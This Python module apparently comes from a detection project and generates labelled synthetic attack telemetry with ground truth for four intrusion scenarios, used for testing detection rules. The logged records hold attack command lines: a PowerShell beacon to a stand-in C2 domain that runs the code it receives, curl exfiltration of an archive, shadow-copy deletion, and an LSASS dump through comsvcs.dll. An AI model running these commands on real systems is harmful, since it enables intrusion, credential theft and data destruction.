"""The labelled attack chains hidden in the generated week, and their ground truth.

Each chain is written with the same telemetry primitives as the background, its
records marked with the id of the step they belong to.  After writing, every step
knows exactly which records (file, line, byte offset) are its own; the labels add how
to recognise them (host, time range, distinguishing field values), the ATT&CK technique,
and which of the project's Sigma rules and which analytics are expected to detect it.

Chains (see docs/generator.md for the full story):

* ``acme-dormant-contractor``: Saturday 03:00 local, a dormant contractor account logs in
  to the SSL VPN from abroad, RDPs to a desktop, runs encoded PowerShell that beacons to a
  C2 server every ~2 minutes for hours, moves to the file server over WinRM, stages a
  password-protected 7-Zip archive and uploads it (exfiltration by volume);
* ``globex-vpn-spray-ransomware``: Thursday night, password spraying against the SSL VPN
  then a success, RDP to the victim's desktop and ransomware precursors (shadow copies
  deleted, boot recovery disabled);
* ``initech-credential-theft``: Wednesday afternoon, LSASS dumped through comsvcs.dll on
  an IT administrator's laptop, then the dormant contractor account added to Domain Admins;
* ``globex-c2-contact``: two days before the acme chain a globex laptop briefly talks to
  acme's C2 server: nothing else; only an indicator retro-hunt can find it.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import Any

from openmdr.generator.clock import HOUR, MINUTE, SECOND
from openmdr.generator.telemetry import Proc, Telemetry
from openmdr.generator.world import GeoPicker, Host, TenantWorld, User, rng_for

#: Rule ids of the project's own rule pack (src/openmdr/detect/rulepack), by short name.
RULES = {
    "encoded_powershell": "f38a2fa3-0423-477a-84b5-4bd2dbdb7c39",
    "winrm_child": "79053ef6-ae79-4f4f-9b76-5e8514e7f84d",
    "archive_password": "02290fa7-f771-4091-9182-f58e5a3633ac",
    "shadow_copy_delete": "462de417-be65-4859-acc8-ddbb1b575b50",
    "boot_recovery_off": "76d547cf-0f60-4bfb-b4fd-4a286378e4d5",
    "lsass_comsvcs": "c3527566-d755-43b2-bc81-ff5dd1d83583",
    "lsass_access": "8475fb59-7027-4ddc-b70d-7a3a93322d82",
    "privileged_group_add": "14f59bc1-08f3-4e24-ac5e-1fb31f83f4ae",
    "net_group_add": "6cb5fe5d-eaab-4fa2-b691-a227f38c0f00",
    "rdp_external_account": "9c9b536b-8a54-484b-a30f-d341a25e9000",
}

_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_CMD = "C:\\Windows\\System32\\cmd.exe"


@dataclass(slots=True)
class Step:
    """One step of a chain: what happened, where, and how to recognise its records."""

    id: str
    name: str
    tactic: str
    technique: str
    host: str
    users: list[str]
    match: list[dict[str, Any]]
    rules: list[str] = field(default_factory=list)
    analytics: list[str] = field(default_factory=list)
    description: str = ""


@dataclass(slots=True)
class Chain:
    """A labelled attack (or contact) in one tenant, before its records are located."""

    id: str
    tenant: str
    name: str
    description: str
    hosts: list[dict[str, Any]]
    users: list[str]
    external_ips: list[str]
    external_domains: list[str]
    steps: list[Step]
    detect_by: list[str]
    related: list[str] = field(default_factory=list)


@dataclass(slots=True)
class Indicators:
    """Attacker infrastructure shared between chains (the C2 server seen in two tenants)."""

    c2_ip: str
    c2_domain: str
    exfil_ip: str
    exfil_domain: str
    acme_attacker_ip: str
    globex_attacker_ip: str


def pick_indicators(seed: int, geo: GeoPicker) -> Indicators:
    """Place the attacker's servers at real addresses (reproducible per seed)."""
    rng = rng_for(seed, "attacker")
    return Indicators(
        c2_ip=geo.pick(rng, "NL"),
        c2_domain="cdn-metrics-sync.net",
        exfil_ip=geo.pick(rng, "US"),
        exfil_domain="dl.fastfile-share.org",
        acme_attacker_ip=geo.pick(rng, "RO"),
        globex_attacker_ip=geo.pick(rng, "BR"),
    )


def win(file: str, computer: str, **fields: Any) -> dict[str, Any]:
    """A recogniser of Windows records: the JSON-lines file and field values (System or EventData)."""
    return {"file": f"windows/{file}.jsonl", "where": {"Computer": computer, **fields}}


def text(file: str, *contains: str) -> dict[str, Any]:
    """A recogniser of text records: the file and substrings every matching line contains."""
    return {"file": file, "contains": list(contains)}


def _host_ref(host: Host, role: str) -> dict[str, Any]:
    return {
        "name": host.name,
        "fqdn": host.fqdn,
        "ip": host.ip,
        "role": role,
        "asset_class": host.asset_class,
        "criticality": host.criticality,
        "has_edr": host.has_edr,
    }


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _pick_desktop(world: TenantWorld) -> tuple[User, Host]:
    """A person's machine with the EDR sensor for a chain: a desktop left on if there is one, else any."""
    candidates = [u for u in world.people() if u.workstation is not None and u.workstation.has_edr]
    ranked = sorted(
        candidates,
        key=lambda u: (
            u.workstation is None or u.workstation.role != "workstation",
            bool(u.remote_days),
            u.late_worker,
            u.department == "IT",
        ),
    )
    if not ranked:
        raise RuntimeError(f"{world.name}: no machine with the EDR sensor for the chain")
    user = ranked[0]
    assert user.workstation is not None
    return user, user.workstation


def _session_start(tel: Telemetry, host: Host, us: int, user: User, session: Any, mark: str) -> Proc:
    """userinit -> explorer (and rdpclip) of a Remote Desktop session."""
    winlogon = tel.system_proc(host)
    userinit = tel.process(
        host,
        us,
        "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
        winlogon,
        user,
        session,
        mark=mark,
    )
    explorer = tel.process(
        host,
        us + 2 * SECOND,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        userinit,
        user,
        session,
        mark=mark,
    )
    tel.process(
        host,
        us + 3 * SECOND,
        "C:\\Windows\\System32\\rdpclip.exe",
        "rdpclip",
        tel.system_proc(host, "schedule"),
        user,
        session,
        mark=mark,
    )
    return explorer


def acme_chain(tel: Telemetry, world: TenantWorld, start: date, ind: Indicators, seed: int, data_end: int) -> Chain:
    """The dormant contractor: VPN at 03:00 Saturday, encoded PowerShell, C2, WinRM, 7-Zip, upload."""
    rng = rng_for(seed, "chain", "acme")
    clock = tel.clock
    cid = "acme-dormant-contractor"
    contractor = world.by_sam["ext.pnowak"]
    _owner, ws = _pick_desktop(world)
    fs = world.host("file")
    dc = world.host("dc")
    tunnel = world.vpn_pool[-5]
    saturday = start + timedelta(days=(5 - start.weekday()) % 7)
    t0 = clock.at(saturday, 3) + int(rng.uniform(5, 50) * SECOND)
    nb = world.profile.netbios

    # 1. VPN login from abroad with the dormant account.
    m1 = f"{cid}/1-vpn-login"
    tel.vpn_login(t0, contractor, ind.acme_attacker_ip, ok=True, tunnel_ip=tunnel, mark=m1)
    # 2. RDP to a desktop left on over the weekend.
    m2 = f"{cid}/2-rdp-workstation"
    t = t0 + int(rng.uniform(90, 150) * SECOND)
    tel.tgt(t, contractor, tunnel, mark=m2)
    session = tel.logon(ws, t + 400_000, contractor, 10, tunnel, "KALI", privileged=False, mark=m2)
    leave_us = t0 + int(7.5 * HOUR)  # the attacker disconnects (no logoff): the implant keeps running
    end_us = min(t0 + 45 * HOUR, data_end)
    tel.conn(
        t - SECOND,
        tunnel,
        tel.eph_port(),
        ws.ip,
        3389,
        service="ssl",
        duration=round((leave_us - t) / SECOND, 6),
        orig_bytes=18_400_000,
        resp_bytes=96_000_000,
        mark=m2,
    )
    explorer = _session_start(tel, ws, t + SECOND, contractor, session, m2)
    # 3. Encoded PowerShell: a loop calling home.
    m3 = f"{cid}/3-encoded-powershell"
    t = t + int(rng.uniform(180, 300) * SECOND)
    script = (
        f"$u='https://{ind.c2_domain}/api/v2/telemetry';$h=@{{'X-Session'='{rng.getrandbits(64):x}'}};"
        "while($true){try{$r=Invoke-RestMethod -Uri $u -Headers $h -Method Post -Body "
        "([Environment]::MachineName);if($r.c){IEX $r.c}}catch{};Start-Sleep -Seconds 120}"
    )
    ps = tel.process(
        ws, t, _PS, f'"{_PS}" -nop -w hidden -enc {_encoded(script)}', explorer, contractor, session, mark=m3
    )
    # 4. Beacon every 120 s (+-3 %), similar sizes, until the attacker leaves.
    m4 = f"{cid}/4-c2-beacon"
    bt = t + int(rng.uniform(2, 5) * SECOND)
    last_dns = -10 * HOUR
    while bt < end_us:
        if bt - last_dns > 300 * SECOND:
            tel.dns(bt - 20_000, ws.ip, dc.ip, ind.c2_domain, (ind.c2_ip,), ttl=300, mark=m4)
            last_dns = bt
        sport = tel.eph_port()
        tel.connect_event(ws, bt, ps, ws.ip, sport, ind.c2_ip, 443, ind.c2_domain, mark=m4)
        tel.tls(
            bt + 5_000,
            ws.ip,
            ind.c2_ip,
            443,
            ind.c2_domain,
            duration=round(rng.uniform(0.35, 0.6), 6),
            orig_bytes=rng.randrange(1_150, 1_260),
            resp_bytes=rng.randrange(820, 900),
            mark=m4,
        )
        bt += int(120 * SECOND * rng.uniform(0.97, 1.03))
    # 5. Lateral movement to the file server over WinRM.
    m5 = f"{cid}/5-winrm-lateral"
    t = t0 + int(rng.uniform(38, 45) * MINUTE)
    probed = [h for h in world.hosts_with("app", "sql", "backup", "wsus", "file")]
    for k, target in enumerate(probed):  # Test-WSMan: which servers answer WinRM (anonymous identify)
        tel.conn(
            t - (len(probed) - k) * 9 * SECOND,
            ws.ip,
            tel.eph_port(),
            target.ip,
            5985,
            service="http",
            duration=round(rng.uniform(0.01, 0.05), 6),
            orig_bytes=rng.randrange(380, 420),
            resp_bytes=rng.randrange(600, 700),
            mark=m5,
        )
    tel.service_ticket(t, contractor, ws.ip, fs, mark=m5)
    fs_session = tel.logon(fs, t + 300_000, contractor, 3, ws.ip, ws.name, privileged=True, mark=m5)
    for k in range(4):
        tel.conn(
            t + k * 70 * SECOND,
            ws.ip,
            tel.eph_port(),
            fs.ip,
            5985,
            service="http",
            duration=round(rng.uniform(2, 60), 6),
            orig_bytes=rng.randrange(6_000, 40_000),
            resp_bytes=rng.randrange(4_000, 30_000),
            mark=m5,
        )
    tel.connect_event(ws, t, ps, ws.ip, tel.eph_port(), fs.ip, 5985, fs.fqdn, mark=m5)
    wsm = tel.process(
        fs,
        t + SECOND,
        "C:\\Windows\\System32\\wsmprovhost.exe",
        "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
        tel.system_proc(fs, "dcomlaunch"),
        contractor,
        fs_session,
        integrity="High",
        mark=m5,
    )
    tel.process(
        fs,
        t + 75 * SECOND,
        "C:\\Windows\\System32\\whoami.exe",
        '"C:\\Windows\\system32\\whoami.exe" /all',
        wsm,
        contractor,
        fs_session,
        integrity="High",
        mark=m5,
    )
    # 6. Staging: a password-protected 7-Zip archive of the finance share.
    m6 = f"{cid}/6-archive-staging"
    t = t + int(rng.uniform(25, 35) * MINUTE)
    archive = "C:\\ProgramData\\USOShared\\Logs\\fin_q4.7z"
    seven = "C:\\Program Files\\7-Zip\\7z.exe"
    z = tel.process(
        fs,
        t,
        seven,
        f'"{seven}" a -t7z -mx9 -mhe=on -pQ4-{rng.getrandbits(24):x} {archive} D:\\Shares\\Finance\\*',
        wsm,
        contractor,
        fs_session,
        integrity="High",
        mark=m6,
    )
    tel.file_created(fs, t + 3 * SECOND, z, archive, mark=m6)
    # 7. Exfiltration: upload of the archive over HTTPS.
    m7 = f"{cid}/7-exfiltration"
    t = t + int(rng.uniform(40, 55) * MINUTE)
    curl = "C:\\Windows\\System32\\curl.exe"
    cp = tel.process(
        fs,
        t,
        curl,
        f"curl.exe -s -k -T {archive} https://{ind.exfil_domain}/upload/q4",
        wsm,
        contractor,
        fs_session,
        integrity="High",
        mark=m7,
    )
    tel.dns(t + 100_000, fs.ip, dc.ip, ind.exfil_domain, (ind.exfil_ip,), ttl=60, mark=m7)
    sport = tel.eph_port()
    tel.connect_event(fs, t + 200_000, cp, fs.ip, sport, ind.exfil_ip, 443, ind.exfil_domain, mark=m7)
    tel.tls(
        t + 300_000,
        fs.ip,
        ind.exfil_ip,
        443,
        ind.exfil_domain,
        duration=round(rng.uniform(780, 900), 6),
        orig_bytes=1_460_000_000 + rng.randrange(0, 40_000_000),
        resp_bytes=rng.randrange(40_000, 90_000),
        mark=m7,
    )
    # The attacker disconnects the RDP session (the implant keeps beaconing) and closes the tunnel.
    tel.vpn_logout(
        leave_us + 60 * SECOND,
        contractor,
        ind.acme_attacker_ip,
        tunnel,
        31_000_000,
        140_000_000,
        (leave_us - t0) / SECOND,
        mark=m1,
    )

    ws_fqdn, fs_fqdn, dc_fqdn = ws.fqdn, fs.fqdn, dc.fqdn
    steps = [
        Step(
            m1,
            "VPN login of a dormant contractor account from abroad at 03:00 on a Saturday",
            "initial-access",
            "T1133",
            world.profile.firewall,
            [contractor.sam],
            [text("firewall/fortigate.cef", f"suser={contractor.sam} ")],
            analytics=["analytics.offhours_logon", "analytics.new_country_logon"],
            description=f"FortiGate SSL-VPN authentication and tunnel from {ind.acme_attacker_ip}",
        ),
        Step(
            m2,
            "Remote Desktop to a desktop left on over the weekend",
            "lateral-movement",
            "T1021.001",
            ws.name,
            [contractor.sam],
            [
                win("security", dc_fqdn, EventID=4768, TargetUserName=contractor.sam),
                win("security", ws_fqdn, EventID=4624, TargetUserName=contractor.sam),
                win("sysmon", ws_fqdn, EventID=1, LogonId=session.logon_id),
                text("zeek/conn.log", f"\t{tunnel}\t", f"\t{ws.ip}\t3389\t"),
            ],
            rules=[RULES["rdp_external_account"]],
        ),
        Step(
            m3,
            "Encoded PowerShell started in the RDP session",
            "execution",
            "T1059.001",
            ws.name,
            [contractor.sam],
            [win("sysmon", ws_fqdn, EventID=1, Image=_PS, User=f"{nb}\\{contractor.sam}")],
            rules=[RULES["encoded_powershell"]],
        ),
        Step(
            m4,
            f"HTTPS beacon to {ind.c2_domain} every ~120 s for hours",
            "command-and-control",
            "T1071.001",
            ws.name,
            [contractor.sam],
            [
                text("zeek/conn.log", f"\t{ind.c2_ip}\t"),
                text("zeek/ssl.log", f"\t{ind.c2_ip}\t"),
                text("zeek/dns.log", f"\t{ind.c2_domain}\t"),
                win("sysmon", ws_fqdn, EventID=3, DestinationIp=ind.c2_ip),
            ],
            analytics=["analytics.beacon", "ioc"],
            description="period 120 s, jitter +-3 %, request 1150-1260 bytes, response 820-900 bytes",
        ),
        Step(
            m5,
            "Lateral movement to the file server over WinRM",
            "lateral-movement",
            "T1021.006",
            fs.name,
            [contractor.sam],
            [
                win(
                    "security",
                    dc_fqdn,
                    EventID=4769,
                    TargetUserName=f"{contractor.sam}@{world.profile.ad_domain.upper()}",
                ),
                win("security", fs_fqdn, EventID=4624, TargetUserName=contractor.sam),
                win("security", fs_fqdn, EventID=4672, SubjectUserName=contractor.sam),
                win("security", fs_fqdn, EventID=4688, SubjectUserName=contractor.sam),
                win("sysmon", fs_fqdn, EventID=1, User=f"{nb}\\{contractor.sam}"),
                win("sysmon", ws_fqdn, EventID=3, DestinationIp=fs.ip),
                text("zeek/conn.log", f"\t{ws.ip}\t", "\t5985\t"),
            ],
            rules=[RULES["winrm_child"]],
            analytics=["analytics.lateral_movement"],
            description="WinRM probed on the servers (Test-WSMan), then a remote session on the file server",
        ),
        Step(
            m6,
            "Finance share staged into a password-protected 7-Zip archive",
            "collection",
            "T1560.001",
            fs.name,
            [contractor.sam],
            [
                win("sysmon", fs_fqdn, EventID=1, Image=seven),
                win("sysmon", fs_fqdn, EventID=11, Image=seven),
                win("security", fs_fqdn, EventID=4688, NewProcessName=seven),
            ],
            rules=[RULES["archive_password"], RULES["winrm_child"]],
        ),
        Step(
            m7,
            f"Archive uploaded to {ind.exfil_domain} (about 1.5 GB)",
            "exfiltration",
            "T1567",
            fs.name,
            [contractor.sam],
            [
                win("sysmon", fs_fqdn, EventID=1, Image=curl),
                win("sysmon", fs_fqdn, EventID=3, Image=curl),
                win("security", fs_fqdn, EventID=4688, NewProcessName=curl),
                text("zeek/dns.log", f"\t{ind.exfil_domain}\t"),
                text("zeek/conn.log", f"\t{ind.exfil_ip}\t"),
                text("zeek/ssl.log", f"\t{ind.exfil_ip}\t"),
                text("firewall/fortigate.cef", f"dst={ind.exfil_ip} "),
            ],
            rules=[RULES["winrm_child"]],
            analytics=["analytics.exfiltration_volume"],
        ),
    ]
    return Chain(
        id=cid,
        tenant=world.name,
        name="Dormant contractor account: VPN, encoded PowerShell, C2, WinRM, staging, exfil",
        description=(
            "A contractor account unused all week logs in to the SSL VPN at 03:00 on Saturday (tenant time) "
            "from abroad, RDPs to a desktop, starts encoded PowerShell that beacons to a C2 server, moves "
            "to the file server over WinRM, archives the finance share with 7-Zip and uploads it."
        ),
        hosts=[
            _host_ref(ws, "c2_beacon"),
            _host_ref(fs, "lateral_target"),
            *(_host_ref(h, "probed") for h in probed if h is not fs),
        ],
        users=[contractor.sam],
        external_ips=[ind.acme_attacker_ip, ind.c2_ip, ind.exfil_ip],
        external_domains=[ind.c2_domain, ind.exfil_domain],
        steps=steps,
        detect_by=["sigma", "analytics", "indicators"],
    )


def globex_chain(tel: Telemetry, world: TenantWorld, start: date, ind: Indicators, seed: int) -> Chain:
    """Password spraying against the SSL VPN, a success, RDP to a desktop, ransomware precursors."""
    rng = rng_for(seed, "chain", "globex")
    clock = tel.clock
    cid = "globex-vpn-spray-ransomware"
    victim, ws = _pick_desktop(world)
    dc = world.host("dc")
    tunnel = world.vpn_pool[-7]
    thursday = start + timedelta(days=(3 - start.weekday()) % 7)
    t0 = clock.at(thursday, 1, 10) + int(rng.uniform(0, 60) * SECOND)
    attacker = ind.globex_attacker_ip

    # 1. Spraying: two passwords across every account name the attacker harvested, a few seconds apart.
    m1 = f"{cid}/1-password-spray"
    names = [u for u in world.people()] + [
        User(n, n, "S-1-0-0", "user", "", "", (0.0, 0.0)) for n in ("administrator", "admin", "helpdesk", "scanner")
    ]
    t = t0
    for _round in range(2):
        for u in rng.sample(names, len(names)):
            if _round == 1 and u.sam == victim.sam:
                continue
            tel.vpn_login(t, u, attacker, ok=False, mark=m1)
            t += int(rng.uniform(4, 14) * SECOND)
        t += int(rng.uniform(3, 6) * MINUTE)
    # 2. Success for the victim (the password guessed in round two).
    m2 = f"{cid}/2-vpn-login"
    t += int(rng.uniform(5, 40) * SECOND)
    tel.vpn_login(t, victim, attacker, ok=True, tunnel_ip=tunnel, mark=m2)
    # 3. RDP to the victim's own desktop.
    m3 = f"{cid}/3-rdp-workstation"
    t += int(rng.uniform(3, 6) * MINUTE)
    tel.tgt(t, victim, tunnel, mark=m3)
    session = tel.logon(ws, t + 300_000, victim, 10, tunnel, "DESKTOP-7H2K1Q", privileged=True, mark=m3)
    session_end = t + int(rng.uniform(35, 50) * MINUTE)
    tel.conn(
        t - SECOND,
        tunnel,
        tel.eph_port(),
        ws.ip,
        3389,
        service="ssl",
        duration=round((session_end - t) / SECOND, 6),
        orig_bytes=6_100_000,
        resp_bytes=41_000_000,
        mark=m3,
    )
    explorer = _session_start(tel, ws, t + SECOND, victim, session, m3)
    # 4. Ransomware precursors from a batch file: no more shadow copies, no recovery environment.
    m4 = f"{cid}/4-inhibit-recovery"
    t += int(rng.uniform(8, 14) * MINUTE)
    bat = "C:\\Users\\Public\\Libraries\\wupd.bat"
    cmd = tel.process(
        ws, t, _CMD, f'C:\\Windows\\system32\\cmd.exe /c "{bat}"', explorer, victim, session, integrity="High", mark=m4
    )
    for k, (image, line) in enumerate(
        (
            ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
            ("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
            ("C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
            ("C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        )
    ):
        tel.process(ws, t + (k + 1) * 2 * SECOND, image, line, cmd, victim, session, integrity="High", mark=m4)
    tel.logoff(ws, session_end, victim, session, 10)
    tel.vpn_logout(
        session_end + 20 * SECOND, victim, attacker, tunnel, 7_400_000, 43_000_000, (session_end - t0) / SECOND, mark=m2
    )

    ws_fqdn = ws.fqdn
    steps = [
        Step(
            m1,
            "Password spraying against the SSL VPN",
            "credential-access",
            "T1110.003",
            world.profile.firewall,
            sorted({u.sam for u in names}),
            [text("firewall/fortigate.cef", f"src={attacker} ", "outcome=failure")],
            analytics=["analytics.password_spray"],
            description=f"two passwords tried against {len(names)} account names from {attacker}",
        ),
        Step(
            m2,
            "VPN login succeeds after the spray",
            "initial-access",
            "T1078.002",
            world.profile.firewall,
            [victim.sam],
            [text("firewall/fortigate.cef", f"src={attacker} ", f"suser={victim.sam} ")],
            analytics=["analytics.logon_after_failures", "analytics.offhours_logon", "analytics.new_country_logon"],
        ),
        Step(
            m3,
            "Remote Desktop from the VPN tunnel to the victim's desktop",
            "lateral-movement",
            "T1021.001",
            ws.name,
            [victim.sam],
            [
                win("security", dc.fqdn, EventID=4768, IpAddress=f"::ffff:{tunnel}"),
                win("security", ws_fqdn, EventID=4624, IpAddress=tunnel),
                win("security", ws_fqdn, EventID=4672, SubjectUserName=victim.sam, SubjectLogonId=session.logon_id),
                win("sysmon", ws_fqdn, EventID=1, LogonId=session.logon_id, IntegrityLevel="Medium"),
                win("security", ws_fqdn, EventID=4688, SubjectLogonId=session.logon_id, MandatoryLabel="S-1-16-8192"),
                text("zeek/conn.log", f"\t{tunnel}\t", f"\t{ws.ip}\t3389\t"),
            ],
        ),
        Step(
            m4,
            "Shadow copies deleted and boot recovery disabled",
            "impact",
            "T1490",
            ws.name,
            [victim.sam],
            [
                win("sysmon", ws_fqdn, EventID=1, LogonId=session.logon_id, IntegrityLevel="High"),
                win("security", ws_fqdn, EventID=4688, SubjectLogonId=session.logon_id, MandatoryLabel="S-1-16-12288"),
            ],
            rules=[RULES["shadow_copy_delete"], RULES["boot_recovery_off"]],
        ),
    ]
    return Chain(
        id=cid,
        tenant=world.name,
        name="VPN password spraying, then ransomware precursors on a desktop",
        description=(
            "At night an attacker sprays two passwords across the SSL VPN's users, gets in as one of them, "
            "RDPs to that user's desktop and deletes shadow copies and disables boot recovery."
        ),
        hosts=[_host_ref(ws, "impact_target")],
        users=[victim.sam],
        external_ips=[attacker],
        external_domains=[],
        steps=steps,
        detect_by=["sigma", "analytics"],
    )


def initech_chain(tel: Telemetry, world: TenantWorld, start: date, ind: Indicators, seed: int) -> Chain:
    """LSASS dumped through comsvcs.dll on an IT laptop, then the contractor added to Domain Admins."""
    rng = rng_for(seed, "chain", "initech")
    clock = tel.clock
    cid = "initech-credential-theft"
    admin = next(u for u in world.users if u.kind == "admin" and u.workstation and u.workstation.has_edr)
    ws = admin.workstation
    assert ws is not None
    dc = world.host("dc")
    contractor = next(u for u in world.users if u.kind == "contractor")
    wednesday = start + timedelta(days=(2 - start.weekday()) % 7)
    t0 = clock.at(wednesday, 14, 5) + int(rng.uniform(0, 120) * SECOND)
    nb = world.profile.netbios
    session = tel.logon(ws, t0 - 40 * MINUTE, admin, 2, "127.0.0.1", ws.name)  # the admin's own, earlier logon
    explorer = tel.process(
        ws,
        t0 - 39 * MINUTE,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        tel.system_proc(ws),
        admin,
        session,
        integrity="High",
    )

    # 1. Credential dumping: rundll32 comsvcs.dll MiniDump of LSASS.
    m1 = f"{cid}/1-lsass-dump"
    cmd = tel.process(
        ws, t0, _CMD, '"C:\\Windows\\system32\\cmd.exe" ', explorer, admin, session, integrity="High", mark=m1
    )
    lsass = tel.system_proc(ws, "lsass")
    dump = "C:\\Windows\\Temp\\mem.dmp"
    rd = tel.process(
        ws,
        t0 + 40 * SECOND,
        "C:\\Windows\\System32\\rundll32.exe",
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full",
        cmd,
        admin,
        session,
        integrity="High",
        mark=m1,
    )
    tel.process_access(
        ws,
        t0 + 41 * SECOND,
        rd,
        lsass,
        "0x1FFFFF",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
        "c:\\windows\\system32\\dbgcore.DLL+6e2a|C:\\Windows\\System32\\comsvcs.dll+3f8b1",
        mark=m1,
    )
    tel.file_created(ws, t0 + 43 * SECOND, rd, dump, mark=m1)
    # 2. Persistence with the stolen domain-admin credentials: the dormant contractor joins Domain Admins.
    m2 = f"{cid}/2-privileged-group-add"
    t = t0 + int(rng.uniform(12, 20) * MINUTE)
    net = tel.process(
        ws,
        t,
        "C:\\Windows\\System32\\net.exe",
        f'net  group "Domain Admins" {contractor.sam} /add /domain',
        cmd,
        admin,
        session,
        integrity="High",
        mark=m2,
    )
    tel.process(
        ws,
        t + 100_000,
        "C:\\Windows\\System32\\net1.exe",
        f'C:\\Windows\\system32\\net1  group "Domain Admins" {contractor.sam} /add /domain',
        net,
        admin,
        session,
        integrity="High",
        mark=m2,
    )
    dc_session = tel.logon(dc, t + 400_000, admin, 3, ws.ip, ws.name, mark=m2)
    tel.out.security(
        t + 600_000,
        dc.fqdn,
        4728,
        {
            "MemberName": f"CN={contractor.display_name},OU=External,DC={world.profile.ad_domain.replace('.', ',DC=')}",
            "MemberSid": contractor.sid,
            "TargetUserName": "Domain Admins",
            "TargetDomainName": nb,
            "TargetSid": f"{world.profile.domain_sid}-512",
            "SubjectUserSid": admin.sid,
            "SubjectUserName": admin.sam,
            "SubjectDomainName": nb,
            "SubjectLogonId": dc_session.logon_id,
            "PrivilegeList": "-",
        },
        mark=m2,
    )
    tel.logoff(dc, t + 2 * SECOND, admin, dc_session, 3)

    steps = [
        Step(
            m1,
            "LSASS memory dumped with rundll32 comsvcs.dll MiniDump",
            "credential-access",
            "T1003.001",
            ws.name,
            [admin.sam],
            [
                win(
                    "sysmon",
                    ws.fqdn,
                    EventID=1,
                    ParentImage="C:\\Windows\\explorer.exe",
                    Image=_CMD,
                    LogonId=session.logon_id,
                ),
                win("sysmon", ws.fqdn, EventID=1, Image="C:\\Windows\\System32\\rundll32.exe"),
                win("sysmon", ws.fqdn, EventID=10, TargetImage="C:\\Windows\\System32\\lsass.exe"),
                win("sysmon", ws.fqdn, EventID=11, TargetFilename=dump),
            ],
            rules=[RULES["lsass_comsvcs"], RULES["lsass_access"]],
        ),
        Step(
            m2,
            f"Dormant account {contractor.sam} added to Domain Admins",
            "persistence",
            "T1098.007",
            dc.name,
            [admin.sam, contractor.sam],
            [
                win("sysmon", ws.fqdn, EventID=1, ParentImage=_CMD, Image="C:\\Windows\\System32\\net.exe"),
                win("sysmon", ws.fqdn, EventID=1, Image="C:\\Windows\\System32\\net1.exe"),
                win("security", dc.fqdn, EventID=4624, TargetUserName=admin.sam, IpAddress=ws.ip),
                win("security", dc.fqdn, EventID=4672, SubjectUserName=admin.sam),
                win("security", dc.fqdn, EventID=4728, TargetUserName="Domain Admins"),
            ],
            rules=[RULES["net_group_add"], RULES["privileged_group_add"]],
            analytics=["analytics.privileged_group_change"],
        ),
    ]
    return Chain(
        id=cid,
        tenant=world.name,
        name="LSASS dump and a new Domain Admin",
        description=(
            f"On IT administrator {admin.sam}'s laptop LSASS is dumped with comsvcs.dll; with the stolen "
            f"credentials the dormant contractor account {contractor.sam} is added to Domain Admins."
        ),
        hosts=[_host_ref(ws, "credential_theft"), _host_ref(dc, "directory")],
        users=[admin.sam, contractor.sam],
        external_ips=[],
        external_domains=[],
        steps=steps,
        detect_by=["sigma", "analytics"],
    )


def globex_c2_contact(tel: Telemetry, world: TenantWorld, acme_first_us: int, ind: Indicators, seed: int) -> Chain:
    """A globex laptop talks to acme's C2 server two days before acme's chain, and nothing else happens."""
    rng = rng_for(seed, "chain", "globex-c2")
    cid = "globex-c2-contact"
    late = [u for u in world.people() if u.late_worker and u.workstation is not None]
    user = late[0]
    host = user.workstation
    assert host is not None
    t0 = acme_first_us - 2 * 24 * HOUR + int(rng.uniform(-40, 40) * MINUTE)
    # Must fall in the late worker's evening at the office: move to the nearest time they are at work.
    local_h = tel.clock.local_hour(t0)
    if not user.hours[0] + 0.5 <= local_h <= user.hours[1] - 0.5:
        t0 += int((user.hours[1] - 1.0 - local_h) * HOUR)
    m1 = f"{cid}/1-c2-contact"
    dc = world.host("dc")
    tel.dns(t0, host.ip, dc.ip, ind.c2_domain, (ind.c2_ip,), ttl=300, mark=m1)
    for k in range(3):
        tel.tls(
            t0 + 50_000 + k * int(rng.uniform(25, 70) * SECOND),
            host.ip,
            ind.c2_ip,
            443,
            ind.c2_domain,
            duration=round(rng.uniform(0.3, 0.9), 6),
            orig_bytes=rng.randrange(900, 1400),
            resp_bytes=rng.randrange(3000, 9000),
            mark=m1,
        )
    steps = [
        Step(
            m1,
            f"Short contact with {ind.c2_domain} ({ind.c2_ip}) from a laptop",
            "command-and-control",
            "T1071.001",
            host.name,
            [user.sam],
            [
                text("zeek/dns.log", f"\t{ind.c2_domain}\t"),
                text("zeek/conn.log", f"\t{ind.c2_ip}\t"),
                text("zeek/ssl.log", f"\t{ind.c2_ip}\t"),
            ],
            analytics=["ioc.retro_hunt"],
            description="no endpoint or identity trace: found only when the acme C2 indicator is hunted back",
        ),
    ]
    return Chain(
        id=cid,
        tenant=world.name,
        name="Earlier contact with acme's C2 server (retro-hunt only)",
        description=(
            "Two days before the acme chain a globex laptop resolves and contacts the same C2 server, "
            "briefly, with no other attack activity."
        ),
        hosts=[_host_ref(host, "c2_contact")],
        users=[user.sam],
        external_ips=[ind.c2_ip],
        external_domains=[ind.c2_domain],
        steps=steps,
        detect_by=["retro_hunt"],
        related=["acme-dormant-contractor"],
    )
